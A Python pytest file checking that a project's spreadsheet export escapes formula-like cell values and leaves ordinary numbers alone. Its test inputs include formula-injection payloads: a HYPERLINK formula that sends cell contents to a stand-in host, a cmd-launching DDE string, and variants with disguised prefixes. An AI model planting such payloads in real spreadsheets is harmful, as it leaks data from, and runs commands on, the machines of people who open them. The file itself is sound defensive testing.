"""What a spreadsheet would run as a formula is text in every file that the hub writes."""

from __future__ import annotations

import pytest

from hub.connect.spreadsheet import cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1,"bấm")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＠SUM(A1)",
        "-",
        "+84 912 345 678",
        "-1=1",
        "+1,2;=1",
    ],
)
def test_a_formula_becomes_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-5", "+84912345678", "-1.234,5", "0", "a=1", "", "H11.12-111011-0001", " =1", -5, 2.5, None, True]
)
def test_numbers_and_other_text_stay(value: object) -> None:
    assert cell(value) is value
